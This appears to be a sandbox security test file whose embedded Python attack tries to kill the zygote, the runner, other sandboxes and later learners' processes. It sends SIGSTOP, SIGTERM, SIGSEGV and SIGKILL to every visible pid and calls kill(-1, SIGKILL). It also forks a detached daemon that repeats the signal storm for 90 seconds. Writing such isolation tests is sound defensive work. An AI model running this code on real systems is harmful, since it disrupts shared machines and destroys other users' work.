"""(d) Signal everything: kill(-1, SIGKILL), kill(0, ...) on the process group, and every pid visible in
/proc gets SIGSTOP, SIGTERM, SIGSEGV and SIGKILL; a daemon repeats it for 90 s against every new process
(the next learners). Each signal that reaches a process that is not the attacker's own is reported."""

from tests.attacks._common import prelude

ASSIGNMENT = "regression"
GOAL = "Stop or kill the zygote, the runner, other sandboxes and later learners' processes with signals."
WITH_SOLUTION = True

CODE = prelude(ASSIGNMENT) + r'''
import signal as _rt_signal, time as _rt_time

_RT_ME = _rt_os.getpid()
for _rt_sig in (_rt_signal.SIGTERM, _rt_signal.SIGHUP, _rt_signal.SIGINT, _rt_signal.SIGUSR1):
    _rt_signal.signal(_rt_sig, _rt_signal.SIG_IGN)


def _rt_storm(skip, log, everyone=True):
    for p in _rt_os.listdir("/proc"):
        if not p.isdigit() or int(p) in skip:
            continue
        for sig in (_rt_signal.SIGSTOP, _rt_signal.SIGTERM, _rt_signal.SIGSEGV, _rt_signal.SIGKILL):
            try:
                _rt_os.kill(int(p), sig)
                log.append(f"{sig.name}->{p}")
            except OSError:
                pass
    if everyone:
        try:
            _rt_os.kill(-1, _rt_signal.SIGKILL)  # every process this uid may signal but the caller
            log.append("kill(-1,SIGKILL)")
        except OSError:
            pass


_rt_log = []
try:
    _rt_os.kill(0, _rt_signal.SIGTERM)  # the process group (ignored here)
    _rt_log.append("kill(0,SIGTERM)")
except OSError as _rt_exc:
    _rt_log.append(f"kill(0): {_rt_exc.errno}")
_rt_storm({_RT_ME}, _rt_log)
_rt_note("signals sent:", _rt_log[:60])
for _rt_entry in _rt_log:
    if "->" in _rt_entry:
        _rt_mark("BREACH", "signal", _rt_entry + " (a process that is not this notebook's)")

_rt_pid = _rt_os.fork()
if _rt_pid == 0:
    try:
        _rt_os.setsid()
        if _rt_os.fork():
            _rt_os._exit(0)
        for fd in range(3, 1024):
            try:
                _rt_os.close(fd)
            except OSError:
                pass
        _rt_end = _rt_time.time() + 90
        while _rt_time.time() < _rt_end:  # everyone but the attacker's own notebook: the next learners
            _rt_storm({_rt_os.getpid(), _RT_ME}, [], everyone=False)
            _rt_time.sleep(0.05)
    finally:
        _rt_os._exit(0)
_rt_os.waitpid(_rt_pid, 0)
'''
